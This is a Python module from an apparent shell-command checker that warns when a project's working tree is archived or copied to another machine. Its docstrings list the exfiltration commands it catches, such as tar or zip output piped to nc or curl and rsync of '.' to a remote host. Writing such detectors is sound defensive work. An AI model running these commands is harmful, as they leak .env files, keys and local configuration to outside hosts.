"""An archive of the whole project sent to another machine (``shell.repo-export``).

``tar czf - . | nc host 9000``, ``zip -r - . | curl -T - https://x``, ``git archive HEAD |
nc h p``: the working tree (or its history) packed and streamed to a host. The tree holds
what a project never pushes (``.env``, keys, local config), so an archive of it reaching a
network tool warns as ``git push URL`` does. A home directory or a secret folder archived
blocks already (``_secrets.bulk_secret_source``: ``shell.exfiltration``).

* :func:`tree_source` gives the output of an archiver of the working tree a ``"tree"``
  source: ``tar``/``gtar``/``bsdtar`` creating (``c``, ``-c``, ``--create``) from ``.``,
  ``./``, ``..`` or ``*`` (read from the working directory: ``-C DIR`` elsewhere, or a ``cd``
  away from it, names another folder); ``zip ARCHIVE .`` / ``7z a ARCHIVE .``; ``git
  archive TREE-ISH`` (all of it, or pathspec ``.``/``:/``) and ``git bundle create``. An
  archive file it writes (``-f``, ``-o``, the zip name) is kept in ``run.trees``, so ``tar
  czf p.tgz . && curl -T p.tgz URL`` and ``nc h p < p.tgz`` are followed too (copies of the
  file are not).
* :func:`tree_sent` warns when such a source reaches a network tool's stdin, a file it
  reads or an argument it sends. Copy tools with a destination (``scp``, ``rsync``,
  ``rclone``, ``aws s3``...) are not judged by taint: an archive they upload is a named
  deploy. A subfolder (``tar cz dist | ssh deploy@h 'tar xz -C /srv'``: a build sent to a
  deploy host) is not the tree and passes.
* :func:`tree_copied` warns when ``rsync``/``scp`` copies the working tree itself (``.``,
  ``./``, ``*``) to another machine (``rsync -a . host:``, ``scp -r ./ u@h:dir``): the same
  tree, ``.env`` included, that ``tar c . | ssh host 'tar x'`` sends. A build folder
  (``rsync -a dist/ host:/var/www``) or a local destination passes.

Cost: one frozenset lookup per command (:data:`TREE_ARCHIVERS`); git adds one word scan.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._archives import tar_spec
from ._embedded import git_sub_index
from ._paths import candidate_paths, norm_path
from ._secrets import sent_args
from ._values import NO_TAINT, Field, Source, Taint, source_order

if TYPE_CHECKING:
    from ._resolve import Invocation
    from ._walk import Run

__all__ = ["TREE_ARCHIVERS", "TREE_COPIERS", "TREE_KIND", "tree_copied", "tree_file",
           "tree_sent", "tree_source"]

TREE_KIND = "tree"
_TARS = frozenset({"tar", "gtar", "bsdtar"})
_ZIPS = frozenset({"zip", "7z", "7za"})
TREE_ARCHIVERS = _TARS | _ZIPS | {"git"}
"""Programs :func:`tree_source` looks at (any other program: nothing to do)."""

# Normalized operands that stand for the whole working tree (``..`` climbs above it and
# normalizes to ``.`` as well).
_TREE_PATHS = frozenset({".", "*"})
# zip options whose value is the next word; -x/-i start pattern lists (no more operands).
_ZIP_VALUES = frozenset({"-b", "-t", "-tt", "-n", "-P", "-O", "-Z", "-TT", "-ds",
                         "--password", "--temp-path", "--suffixes", "--output-file",
                         "--compression-method", "--unzip-command"})
_ZIP_LISTS = frozenset({"-x", "-i", "--exclude", "--include"})
# git archive options whose value is the next word when written without ``=``.
_GIT_ARCHIVE_VALUES = frozenset({"-o", "--output", "--format", "--prefix", "--add-file",
                                 "--add-virtual-file", "--exec", "--mtime"})
# Copy tools that send named files to a destination the command names (a deploy).
_COPIERS = frozenset({"scp", "sftp", "rsync", "rclone", "aws", "gsutil", "s3cmd"})
_MAX_FILES = 256  # as _files
TREE_COPIERS = frozenset({"rsync", "scp"})
"""Programs :func:`tree_copied` looks at."""


def _is_tree(text: str, cwd: str | None) -> bool:
    return norm_path(text.rstrip("/") or "/", cwd) in _TREE_PATHS


# Words that may name the working tree (``$PWD``, ``$(pwd)`` and ``~+`` expand to ``.``):
# an archiver naming none of them costs one scan of its words.
_TREE_WORDS = frozenset({".", "./", "..", "../", "*", "./*", "../..", "../../"})


def _tar_tree(args: list[Field], cwd: str | None) -> tuple[bool, str | None]:
    spec = tar_spec(args)
    if spec.mode != "c":
        return False, None
    tree = any(_is_tree(op if where in (".", "./") else where.rstrip("/") + "/" + op, cwd)
               for where, op in spec.operands)
    return tree, spec.archive


def _zip_tree(name: str, args: list[Field], cwd: str | None) -> tuple[bool, str | None]:
    operands: list[str] = []
    skip = False
    for f in args[:64]:
        t = f.text
        if skip:
            skip = False
        elif t in _ZIP_LISTS:
            break
        elif t in _ZIP_VALUES:
            skip = True
        elif t == "-" or not t.startswith("-"):
            operands.append(t)
    if name != "zip":  # 7z a ARCHIVE FILES...
        if not operands or operands[0] not in ("a", "u"):
            return False, None
        operands = operands[1:]
    if not operands:
        return False, None
    out = "-" if name != "zip" and any(f.text == "-so" for f in args) else operands[0]
    return any(_is_tree(t, cwd) for t in operands[1:]), out  # 7z a -so x.7z .: stdout


def _git_tree(args: list[Field]) -> tuple[bool, str | None]:
    i = git_sub_index(args)
    sub = args[i].text if i < len(args) else ""
    rest = [f.text for f in args[i + 1:i + 65]]
    if sub == "bundle":
        if not rest or rest[0] != "create":
            return False, None
        files = [t for t in rest[1:] if t == "-" or not t.startswith("-")]
        return bool(files), files[0] if files else None
    if sub != "archive" or any(t.startswith("--remote") or t == "--list" or t == "-l"
                               for t in rest):
        return False, None  # a fetch from a remote, or the list of formats
    out: str | None = None
    operands: list[str] = []
    take = ""
    for t in rest:
        if take:
            out = t if take in ("-o", "--output") else out
            take = ""
        elif t.startswith("--output="):
            out = t.partition("=")[2]
        elif t.startswith("-o") and len(t) > 2:
            out = t[2:]
        elif t in _GIT_ARCHIVE_VALUES:
            take = t
        elif not t.startswith("-"):
            operands.append(t)
    # git archive HEAD: every tracked file; a pathspec limits it to those paths.
    paths = operands[1:]
    return bool(operands) and all(p in (".", "./", ":/", "*") for p in paths), out


def tree_source(run: Run, inv: Invocation) -> Taint:
    """The ``"tree"`` taint of an archiver streaming the working tree to its output (see
    the module doc); an archive file it writes is recorded in ``run.trees`` instead (kept
    out of ``run.files``, whose every entry the checks of written files look at)."""
    name = inv.name
    args = inv.args
    if name in _TARS:
        if not any(f.text in _TREE_WORDS for f in args):
            return NO_TAINT
        tree, out = _tar_tree(args, run.cwd)
    elif name in _ZIPS:
        if not any(f.text in _TREE_WORDS for f in args):
            return NO_TAINT
        tree, out = _zip_tree(name, args, run.cwd)
    elif any(f.text in ("archive", "bundle") for f in args):
        tree, out = _git_tree(args)
    else:
        return NO_TAINT
    if not tree:
        return NO_TAINT
    src = Source(TREE_KIND, name, run.map_span(inv.word.span))
    if not out or out == "-":
        return frozenset({src})
    path = norm_path(out, run.cwd)
    if path is not None and (path in run.trees or len(run.trees) < _MAX_FILES):
        run.trees[path] = src
    return NO_TAINT


def tree_file(run: Run, path: str | None) -> Taint:
    """The ``"tree"`` taint of a file read (``nc h p < p.tgz``): an archive of the tree."""
    src = run.trees.get(path) if path is not None else None
    return frozenset({src}) if src is not None else NO_TAINT


def _named_files(text: str, cwd: str | None) -> list[str]:
    """Paths an argument names, plain names included (``-T p.tgz``, ``f=@p.zip``)."""
    out = candidate_paths(text, cwd)
    for piece in (text, text.partition("=")[2], text.partition("@")[2]):
        if piece and piece[0] != "-" and "/" not in piece:
            path = norm_path(piece, cwd)
            if path is not None:
                out.append(path)
    return out


def tree_sent(run: Run, inv: Invocation, taint: set[Source] | Taint) -> None:
    """Warn (``shell.repo-export``) when the project's tree reaches network tool ``inv``
    through ``taint`` (its stdin), an archive file it reads or an argument it sends."""
    if inv.name in _COPIERS:
        return
    trees = [s for s in taint if s.kind == TREE_KIND]
    if not trees and run.trees:  # curl -T p.tgz, curl -F f=@p.zip, --data-binary @p.tgz
        trees = [run.trees[p] for f in inv.args for p in _named_files(f.text, run.cwd)
                 if p in run.trees]
    if not trees and any(s.kind == TREE_KIND for f in inv.args for s in f.taint):
        trees = [s for f in sent_args(inv.args) for s in f.taint if s.kind == TREE_KIND]
    if not trees:
        return
    src = min(trees, key=source_order)
    run.add("shell.repo-export", inv.word.span, f"an archive of the project's working tree "
            f"reaches the network tool {inv.name}",
            f"{src.describe()} reaches {run._desc(inv.name, inv.word.span)}")


def _remote(text: str) -> bool:
    """``host:path``, ``user@host:``, ``rsync://host/m``: a location on another machine."""
    if "://" in text:
        return True
    head = text.split("/", 1)[0]
    return ":" in head and not text.startswith(("/", "./", "~")) and \
        not head.startswith(":")


def tree_copied(run: Run, inv: Invocation) -> None:
    """``rsync -a . host:``, ``scp -r ./ user@host:dir``: the working tree copied to a
    remote destination (its last operand) warns, as its archive piped to ssh does."""
    operands = [f for f in inv.args if f.text[:1] != "-"]
    # The destination: the last remote operand (option values may follow it: --exclude X).
    dest = next((k for k in range(len(operands) - 1, 0, -1) if _remote(operands[k].text)),
                None)
    if dest is None:
        return
    tree = next((f for f in operands[:dest] if f.static and not _remote(f.text) and
                 _is_tree(f.text, run.cwd)), None)
    if tree is not None:
        run.add("shell.repo-export", inv.word.span, f"{inv.name} copies the project's "
                f"working tree ({tree.text}, .env and local files included) to "
                f"{operands[dest].text}", None)
